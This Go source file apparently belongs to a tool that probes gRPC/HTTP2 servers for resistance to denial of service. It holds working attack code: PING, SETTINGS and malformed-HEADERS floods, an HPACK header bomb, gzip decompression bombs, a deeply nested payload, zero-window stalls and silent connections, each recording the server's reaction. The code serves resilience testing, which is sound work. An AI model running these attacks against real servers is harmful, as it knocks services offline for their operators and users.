package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"sort"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// Bounds of the attacks, as the probe's documentation describes them.
const (
	unreadRequests   = 100
	unreadBodySize   = 60 << 10
	nestingDepth     = 4_000_000
	zeroWindowSize   = 1_000_000
	silentConns      = 100
	silentWait       = 12 * time.Second
	floodFrames      = 200_000
	settingsStreams  = 500
	settingsFrames   = 100
	settingsPerFrame = 100
	bombMaxStreams   = 1000
	bombValueLen     = 3000 // base64 characters: 2,250 bytes once decoded
	bombName         = "x-bomb-bin"
	// bombUnadvertised is the header-list size assumed for a server that
	// advertises no SETTINGS_MAX_HEADER_LIST_SIZE (RFC 9113 then sets no
	// limit): grpc-go's and x/net's enforced default.
	bombUnadvertised = 16 << 20
	gzipStreams      = 100
	gzipMessages     = 20
	gzipBodySize     = 4_000_000
	gzipRespSize     = 128 << 10 // larger than the 64 KiB window, so the handler blocks
	bigResponseSize  = 1_500_000_000
	// stallWait is how long a well-behaved sender waits for flow-control
	// credit before calling the connection stalled.
	stallWait = 3 * time.Second
)

// attack is one hostile behaviour. run performs it within e's bounds and
// returns what the server did.
type attack struct {
	name string
	what string
	run  func(e *env) result
}

// result is one attack's row, less the memory columns the runner fills.
type result struct {
	outcome string
	elapsed time.Duration
}

var serverAttacks = []attack{
	{"unread-bodies", "100 requests of 60 KB to an unknown method, then EmptyCall on the same connection", unreadBodies},
	{"deep-nesting", "gzip'd UnaryCall inflating to a msgpack map nested 4 million levels", deepNesting},
	{"zero-window", "INITIAL_WINDOW_SIZE 0, UnaryCall for a 1 MB response with grpc-timeout 1S", zeroWindow},
	{"silent-conns", "100 TCP connections that never send the preface, watched for 12 s", silentConnections},
	{"two-messages", "unary call with two request messages", twoMessages},
	{"ping-flood", "200,000 PINGs, never reading", func(e *env) result { return flood(e, "PINGs", pingFrame) }},
	{"settings-flood", "200,000 SETTINGS, never reading", func(e *env) result { return flood(e, "SETTINGS", settingsFrame) }},
	{"reset-flood", "200,000 HEADERS without :path, never reading", func(e *env) result { return flood(e, "malformed HEADERS", malformedHeaders(e)) }},
	{"settings-many", "100 SETTINGS of 100 INITIAL_WINDOW_SIZE each over up to 500 open streams", settingsMany},
	{"hpack-bomb", "one 3 KB HPACK entry referenced to the header-list limit on up to 1000 open streams", hpackBomb},
	{"gzip-bomb-mailbox", "20 gzip'd 4 MB messages on each of up to 100 FullDuplexCalls, responses never read", gzipBombMailbox},
	{"big-response", "UnaryCall for a 1.5 GB response, read as it comes", bigResponse},
}

// failed is the result of an attack that could not be carried out.
func failed(err error) result { return result{outcome: "probe failed: " + shortErr(err)} }

// open dials and starts the reader, waiting for the server's SETTINGS.
func open(e *env, settings []http2.Setting, credit bool) (*session, error) {
	s, err := dial(e, settings, e.end())
	if err != nil {
		return nil, err
	}
	s.credit = credit
	s.startReader()
	if !s.waitSettings(3 * time.Second) {
		s.close()
		return nil, errors.New("no SETTINGS from the server in 3 s")
	}
	return s, nil
}

func unreadBodies(e *env) result {
	t0 := time.Now()
	s, err := open(e, nil, false)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	block := requestBlock(e.authority, pathUnknown)
	body := grpcPrefix(nil, false, unreadBodySize-5)
	body = append(body, make([]byte, unreadBodySize-5)...)
	full, cut := 0, 0
	var stop string
	for i := 0; i < unreadRequests && !e.over(); i++ {
		id := s.newStream()
		if err := s.writeHeaders(id, block, false); err != nil {
			stop = fmt.Sprintf("request %d: %s", i+1, shortErr(err))
			break
		}
		err := s.writeData(id, body, true, stallWait)
		switch {
		case err == nil:
			full++
		case errors.Is(err, errStreamClosed):
			cut++ // a client stops sending once the server has answered
		case errors.Is(err, errStalled):
			s.mu.Lock()
			stop = fmt.Sprintf("stalled at request %d: no credit for %s (connection window %d, stream window %d)", i+1, stallWait, s.connWin, s.streams[id].sendWin)
			s.mu.Unlock()
		default:
			stop = fmt.Sprintf("request %d: %s", i+1, shortErr(err))
		}
		if stop != "" {
			break
		}
	}
	call := sameConnCall(s)
	// Let the answers to the 100 requests arrive before describing them.
	s.wait(min(3*time.Second, max(0, time.Until(e.end()))), func() bool {
		for _, st := range s.streams {
			if !st.ended && !st.rst {
				return s.readErr != nil
			}
		}
		return true
	})
	out := fmt.Sprintf("%d of %d sent whole, %d cut short by the server's answer", full, unreadRequests, cut)
	if stop != "" {
		out += "; " + stop
	}
	out += "; server: " + s.summary()
	out += "; then EmptyCall on the same connection: " + call
	return result{outcome: out, elapsed: time.Since(t0)}
}

// sameConnCall makes a good EmptyCall on s and describes its end.
func sameConnCall(s *session) string {
	t := time.Now()
	id := s.newStream()
	if err := s.writeHeaders(id, requestBlock(authorityOf(s), pathEmptyCall), false); err != nil {
		return "could not send headers: " + shortErr(err)
	}
	if err := s.writeData(id, grpcFrame(nil, false, emptyMessage), true, stallWait); err != nil {
		if errors.Is(err, errStalled) {
			return fmt.Sprintf("stalled: no flow-control credit for the 6-byte body in %s", stallWait)
		}
		return "could not send the body: " + shortErr(err)
	}
	if !s.waitDone(id, 5*time.Second) {
		return "no answer in 5 s"
	}
	r := s.streamResult(id)
	if r == "grpc-status 0" {
		return "ok in " + secs(time.Since(t))
	}
	return r
}

func deepNesting(e *env) result {
	t0 := time.Now()
	// {"x": [[[...nil...]]]}: fixmap 1, fixstr "x", then nestingDepth
	// fixarrays of one element around a nil. Deflated a block at a time so
	// the probe never holds the 4 MB.
	var z bytes.Buffer
	gw, _ := gzip.NewWriterLevel(&z, gzip.BestCompression)
	_, _ = gw.Write([]byte{0x81, 0xa1, 'x'})
	block := bytes.Repeat([]byte{0x91}, 64<<10)
	for left := nestingDepth; left > 0; left -= len(block) {
		_, _ = gw.Write(block[:min(left, len(block))])
	}
	_, _ = gw.Write([]byte{0xc0})
	_ = gw.Close()

	s, err := open(e, nil, true)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	id := s.newStream()
	sent := time.Now()
	if err := s.writeHeaders(id, requestBlock(e.authority, pathUnaryCall, "grpc-encoding", "gzip"), false); err != nil {
		return failed(err)
	}
	if err := s.writeData(id, grpcFrame(nil, true, z.Bytes()), true, stallWait); err != nil {
		return failed(err)
	}
	done := s.waitDone(id, time.Until(e.end()))
	took := time.Since(sent)
	out := fmt.Sprintf("%d bytes gzip'd → %d: ", z.Len(), nestingDepth+4)
	if done {
		out += fmt.Sprintf("%s after %s", s.streamResult(id), took.Round(time.Millisecond))
	} else {
		out += fmt.Sprintf("no answer in %s", took.Round(time.Second))
	}
	if sum := s.summary(); !strings.HasPrefix(sum, "grpc-status") && !strings.HasPrefix(sum, "held") {
		out += "; " + sum
	}
	return result{outcome: out, elapsed: time.Since(t0)}
}

func zeroWindow(e *env) result {
	t0 := time.Now()
	s, err := open(e, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, false)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	s.mu.Lock()
	s.events = nil // keep only what follows the request, timed from it
	s.start = time.Now()
	s.mu.Unlock()
	id := s.newStream()
	if err := s.writeHeaders(id, requestBlock(e.authority, pathUnaryCall, "grpc-timeout", "1S"), false); err != nil {
		return failed(err)
	}
	if err := s.writeData(id, grpcFrame(nil, false, simpleRequest(zeroWindowSize)), true, stallWait); err != nil {
		return failed(err)
	}
	done := s.waitDone(id, min(5*time.Second, time.Until(e.end())))
	// Keep the connection open a while: is the response dropped with the
	// stream, or held for the connection's life?
	time.Sleep(min(2*time.Second, max(0, time.Until(e.end()))))
	held := rssKiB(e.pid)
	s.mu.Lock()
	events := strings.Join(s.events, ", ")
	data := s.streams[id].data
	s.mu.Unlock()
	out := "after the request: " + events
	if !done {
		out += fmt.Sprintf("; stream not ended or reset in 5 s (%d DATA bytes)", data)
	} else if data > 0 {
		out += fmt.Sprintf("; %d DATA bytes despite the zero window", data)
	}
	if sum := s.summary(); strings.Contains(sum, "GOAWAY") || strings.Contains(sum, "closed") {
		out += "; " + sum
	}
	out += fmt.Sprintf("; RSS 2 s later, connection still open: %s MiB", mib(held))
	return result{outcome: out, elapsed: time.Since(t0)}
}

func silentConnections(e *env) result {
	t0 := time.Now()
	deadline := t0.Add(silentWait)
	type conn struct {
		closedAt time.Duration // 0: still open at the end
		got      []byte
	}
	conns := make([]conn, silentConns)
	var wg sync.WaitGroup
	opened := 0
	for i := range conns {
		nc, err := net.DialTimeout("tcp", e.addr, 3*time.Second)
		if err != nil {
			continue
		}
		e.track(nc)
		opened++
		wg.Add(1)
		go func(c *conn) {
			defer wg.Done()
			defer nc.Close()
			_ = nc.SetReadDeadline(deadline)
			buf := make([]byte, 4096)
			for len(c.got) < 64<<10 {
				n, err := nc.Read(buf)
				c.got = append(c.got, buf[:n]...)
				if err != nil {
					var ne net.Error
					if !errors.As(err, &ne) || !ne.Timeout() {
						c.closedAt = time.Since(t0)
					}
					return
				}
			}
		}(&conns[i])
	}
	wg.Wait()
	closed := 0
	var first, last time.Duration
	sent := map[string]int{}
	for _, c := range conns {
		sent[framesOf(c.got)]++
		if c.closedAt == 0 {
			continue
		}
		closed++
		if first == 0 || c.closedAt < first {
			first = c.closedAt
		}
		last = max(last, c.closedAt)
	}
	out := fmt.Sprintf("closed %d of %d by %s", closed, opened, silentWait)
	if closed > 0 {
		out += fmt.Sprintf(" (first at %s, last at %s)", secs(first), secs(last))
	}
	var kinds []string
	for k, n := range sent {
		kinds = append(kinds, fmt.Sprintf("%d×[%s]", n, k))
	}
	sort.Strings(kinds)
	out += "; server sent " + strings.Join(kinds, ", ")
	return result{outcome: out, elapsed: time.Since(t0)}
}

// framesOf names the frames in b, as the server sent them.
func framesOf(b []byte) string {
	fr := http2.NewFramer(io.Discard, bytes.NewReader(b))
	var names []string
	for len(names) < 8 {
		f, err := fr.ReadFrame()
		if err != nil {
			if len(names) == 0 && len(b) > 0 {
				names = append(names, fmt.Sprintf("%d bytes", len(b)))
			}
			break
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			names = append(names, "GOAWAY("+f.ErrCode.String()+")")
		default:
			names = append(names, f.Header().Type.String())
		}
	}
	if len(names) == 0 {
		return "nothing"
	}
	return strings.Join(names, " ")
}

func twoMessages(e *env) result {
	t0 := time.Now()
	s, err := open(e, nil, true)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	id := s.newStream()
	body := grpcFrame(grpcFrame(nil, false, emptyMessage), false, emptyMessage)
	if err := s.writeHeaders(id, requestBlock(e.authority, pathUnaryCall), false); err != nil {
		return failed(err)
	}
	if err := s.writeData(id, body, true, stallWait); err != nil {
		return failed(err)
	}
	if !s.waitDone(id, 5*time.Second) {
		return result{outcome: "no answer in 5 s; " + s.summary(), elapsed: time.Since(t0)}
	}
	s.mu.Lock()
	data := s.streams[id].data
	s.mu.Unlock()
	out := s.streamResult(id)
	if data > 0 {
		out += fmt.Sprintf(" (after %d bytes of response messages)", data)
	}
	return result{outcome: out, elapsed: time.Since(t0)}
}

// flood writes floodFrames frames made by frame, never reading, for at most
// 70% of the attack's time; then it reads what the server sent until the
// connection closes or the time is up.
func flood(e *env, what string, frame func(fr *http2.Framer, i int) error) result {
	t0 := time.Now()
	writeEnd := t0.Add(e.dur * 7 / 10)
	s, err := dial(e, nil, writeEnd)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	n := 0
	var werr error
	s.wmu.Lock()
	for ; n < floodFrames && !e.over(); n++ {
		if werr = frame(s.fr, n); werr != nil {
			break
		}
	}
	if werr == nil {
		werr = s.bw.Flush()
	}
	s.wmu.Unlock()
	wrote := time.Since(t0)
	var out string
	switch {
	case werr == nil:
		out = fmt.Sprintf("wrote all %d %s in %s", n, what, secs(wrote))
	case strings.Contains(werr.Error(), "i/o timeout"):
		out = fmt.Sprintf("writes blocked after %d %s (server stopped reading) until %s", n, what, secs(wrote))
	default:
		out = fmt.Sprintf("write failed after %d %s at %s (%s)", n, what, secs(wrote), shortErr(werr))
	}
	// Now read, without answering PINGs, to see what the server sent.
	_ = s.nc.SetWriteDeadline(time.Now().Add(time.Second))
	s.ackPings = false
	s.startReader()
	s.waitQuiet(time.Second, max(time.Until(e.end()), time.Second))
	s.mu.Lock()
	acks := fmt.Sprintf("read back %d PING acks, %d SETTINGS acks", s.pingAcks, s.settingAcks)
	s.mu.Unlock()
	out += "; " + acks + "; server: " + s.summary()
	return result{outcome: out, elapsed: time.Since(t0)}
}

func pingFrame(fr *http2.Framer, i int) error {
	var d [8]byte
	for j := range d {
		d[j] = byte(i >> (8 * j))
	}
	return fr.WritePing(false, d)
}

func settingsFrame(fr *http2.Framer, _ int) error { return fr.WriteSettings() }

// malformedHeaders returns a frame writer of HEADERS frames with END_STREAM
// on new streams 1, 3, 5, ... whose block lacks :path.
func malformedHeaders(e *env) func(fr *http2.Framer, i int) error {
	block := requestBlock(e.authority, "")
	return func(fr *http2.Framer, i int) error {
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block, EndStream: true, EndHeaders: true})
	}
}

func settingsMany(e *env) result {
	t0 := time.Now()
	s, err := open(e, nil, false)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	limit := s.streamLimit(settingsStreams)
	block := requestBlock(e.authority, pathEmptyCall)
	for i := uint32(0); i < limit && !e.over(); i++ {
		if err := s.writeHeaders(s.newStream(), block, false); err != nil {
			return failed(err)
		}
	}
	time.Sleep(300 * time.Millisecond) // let the handlers start
	sets := make([]http2.Setting, settingsPerFrame)
	for i := range sets {
		sets[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1 + (i%2)*65534)}
	}
	s.mu.Lock()
	acks0 := s.settingAcks
	s.mu.Unlock()
	cpu0, start := cpuTime(e.pid), time.Now()
	var werr error
	for i := 0; i < settingsFrames && werr == nil && !e.over(); i++ {
		werr = s.write(func(fr *http2.Framer) error { return fr.WriteSettings(sets...) })
	}
	acked := s.wait(time.Until(e.end()), func() bool { return s.settingAcks >= acks0+settingsFrames || s.readErr != nil })
	took := time.Since(start)
	cpu1 := cpuTime(e.pid)
	s.mu.Lock()
	nacks := s.settingAcks - acks0
	s.mu.Unlock()
	out := fmt.Sprintf("%d streams open; %d of %d SETTINGS acked in %s", limit, nacks, settingsFrames, secs(took))
	if !acked {
		out += " (time up)"
	}
	if werr != nil {
		out += "; write failed: " + shortErr(werr)
	}
	if c := cpuText(cpu0, cpu1); c != "" {
		out += "; server " + c + " for them"
	}
	out += "; server: " + s.summary()
	return result{outcome: out, elapsed: time.Since(t0)}
}

func hpackBomb(e *env) result {
	t0 := time.Now()
	s, err := open(e, nil, false)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	streams := s.streamLimit(bombMaxStreams)
	listLimit, advertised := s.setting(http2.SettingMaxHeaderListSize)
	if !advertised {
		listLimit = bombUnadvertised
	}
	table := uint32(4096)
	if v, ok := s.setting(http2.SettingHeaderTableSize); ok {
		table = v
	}
	value := base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("parley!"), bombValueLen/4*3/7+1))[:bombValueLen]
	entry := uint32(len(bombName) + len(value) + 32) // RFC 7541 section 4.1
	if entry > table {
		return result{outcome: fmt.Sprintf("server's HPACK table (%d) cannot hold a %d-byte entry", table, entry)}
	}
	base := requestBlock(e.authority, pathFullDuplex)
	const baseList = 512 // the other fields' share of the header list, rounded up
	refs := int((listLimit - baseList) / entry)
	first := appendLiteralIndexed(bytes.Clone(base), bombName, value)
	for range refs - 1 {
		first = appendIndexed(first, hpFirstDyn)
	}
	rest := bytes.Clone(base)
	for range refs {
		rest = appendIndexed(rest, hpFirstDyn)
	}
	opened := 0
	var werr error
	for i := uint32(0); i < streams && !e.over() && time.Now().Before(e.end()); i++ {
		b := rest
		if i == 0 {
			b = first
		}
		if werr = s.writeHeaders(s.newStream(), b, false); werr != nil {
			break
		}
		opened++
		if i%50 == 49 && s.gone() {
			break
		}
	}
	opening := time.Since(t0)
	s.wait(time.Until(e.end()), func() bool { return s.readErr != nil })
	list := float64(refs) * float64(entry)
	out := fmt.Sprintf("%d HEADERS sent in %s, each %d references (%d-byte block, %.1f MiB header list; %.0f MiB in all)",
		opened, secs(opening), refs, len(rest), list/(1<<20), list*float64(opened)/(1<<20))
	if !advertised {
		out += fmt.Sprintf(" [no MAX_HEADER_LIST_SIZE advertised: %d MiB assumed]", bombUnadvertised>>20)
	}
	if werr != nil {
		out += "; write failed: " + shortErr(werr)
	}
	out += "; server: " + s.summary()
	return result{outcome: out, elapsed: time.Since(t0)}
}

// gone reports whether the server has sent GOAWAY or closed the connection.
func (s *session) gone() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.goAway != nil || s.readErr != nil
}

func gzipBombMailbox(e *env) result {
	t0 := time.Now()
	// A StreamingOutputCallRequest asking for one response of gzipRespSize
	// bytes, with a payload body of gzipBodySize zeros.
	head := mpMap(nil, 2)
	head = mpStr(head, "response_parameters")
	head = append(head, 0x91)
	head = mpUint(mpStr(mpMap(head, 1), "size"), gzipRespSize)
	head = mpStr(head, "payload")
	head = mpBin32Header(mpStr(mpMap(head, 1), "body"), gzipBodySize)
	var z bytes.Buffer
	gw, _ := gzip.NewWriterLevel(&z, gzip.BestCompression)
	_, _ = gw.Write(head)
	zeros := make([]byte, 64<<10)
	for left := gzipBodySize; left > 0; left -= len(zeros) {
		_, _ = gw.Write(zeros[:min(left, len(zeros))])
	}
	_ = gw.Close()
	msg := grpcFrame(nil, true, z.Bytes())
	inflated := len(head) + gzipBodySize

	s, err := open(e, nil, false)
	if err != nil {
		return failed(err)
	}
	defer s.close()
	n := s.streamLimit(gzipStreams)
	block := requestBlock(e.authority, pathFullDuplex, "grpc-encoding", "gzip")
	var ids []uint32
	for range n {
		id := s.newStream()
		if err := s.writeHeaders(id, block, false); err != nil {
			return failed(err)
		}
		ids = append(ids, id)
	}
	sent, stalled, closed := 0, map[uint32]bool{}, map[uint32]bool{}
	var werr error
rounds:
	for range gzipMessages {
		for _, id := range ids {
			if stalled[id] || closed[id] {
				continue
			}
			if e.over() || !time.Now().Before(e.end()) {
				break rounds
			}
			err := s.writeData(id, msg, false, 500*time.Millisecond)
			switch {
			case err == nil:
				sent++
			case errors.Is(err, errStalled):
				stalled[id] = true
			case errors.Is(err, errStreamClosed):
				closed[id] = true
			default:
				werr = err
				break rounds
			}
		}
	}
	sending := time.Since(t0)
	s.wait(time.Until(e.end()), func() bool { return s.readErr != nil })
	out := fmt.Sprintf("%d of %d messages (%d bytes each, inflating to %d) sent on %d streams in %s; %d streams stalled on flow control, %d closed by the server",
		sent, int(n)*gzipMessages, len(msg), inflated, n, secs(sending), len(stalled), len(closed))
	if werr != nil {
		out += "; write failed: " + shortErr(werr)
	}
	out += "; server: " + s.summary()
	return result{outcome: out, elapsed: time.Since(t0)}
}

func bigResponse(e *env) result {
	t0 := time.Now()
	const win = 8 << 20
	s, err := dial(e, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: win}}, e.end())
	if err != nil {
		return failed(err)
	}
	defer s.close()
	if err := s.write(func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, win) }); err != nil {
		return failed(err)
	}
	s.credit = true
	s.startReader()
	if !s.waitSettings(3 * time.Second) {
		return failed(errors.New("no SETTINGS from the server in 3 s"))
	}
	id := s.newStream()
	if err := s.writeHeaders(id, requestBlock(e.authority, pathUnaryCall), false); err != nil {
		return failed(err)
	}
	if err := s.writeData(id, grpcFrame(nil, false, simpleRequest(bigResponseSize)), true, stallWait); err != nil {
		return failed(err)
	}
	done := s.waitDone(id, time.Until(e.end()))
	s.mu.Lock()
	data := s.streams[id].data
	s.mu.Unlock()
	out := fmt.Sprintf("%d MB of response read in %s", data/1e6, secs(time.Since(t0)))
	if done {
		out += "; " + s.streamResult(id)
	} else {
		out += "; not finished when time was up"
	}
	if sum := s.summary(); strings.Contains(sum, "GOAWAY") || strings.Contains(sum, "closed") {
		out += "; " + sum
	}
	return result{outcome: out, elapsed: time.Since(t0)}
}

// goodCall makes a well-behaved EmptyCall on a fresh connection and says
// how it went: "ok (N ms)" or what went wrong.
func goodCall(addr, authority string) string {
	e := &env{addr: addr, authority: authority, dur: 5 * time.Second}
	e.start = time.Now()
	s, err := dial(e, nil, e.end())
	if err != nil {
		return "dial failed: " + shortErr(err)
	}
	defer s.close()
	s.credit = true
	s.startReader()
	if !s.waitSettings(3 * time.Second) {
		return "no SETTINGS in 3 s"
	}
	return sameConnCall(s)
}

// authorityOf returns the :authority for requests on s.
func authorityOf(s *session) string { return s.nc.RemoteAddr().String() }
